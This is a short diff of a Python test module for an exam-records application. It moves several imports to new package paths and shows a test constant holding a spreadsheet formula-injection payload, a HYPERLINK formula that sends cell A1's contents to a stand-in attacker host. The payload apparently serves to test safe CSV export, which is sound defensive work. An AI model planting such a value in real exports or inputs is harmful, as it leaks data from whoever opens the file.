@@ -4,11 +4,11 @@ import csv
 import io
 import json
 
-from examroom.database import session_factory
-from examroom.models import Candidate
-from examroom.records import Records
-from examroom.sealing import Sealer, load_or_create_key
-from examroom.upload_export import export_sitting
+from examroom.records.database import session_factory
+from examroom.records.models import Candidate
+from examroom.records.attempt_log import Records
+from examroom.records.sealing import Sealer, load_or_create_key
+from examroom.examday.upload_export import export_sitting
 from tests.examroom.attempts import confirmed_booking, finished_attempt, id_number
 
 HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")"
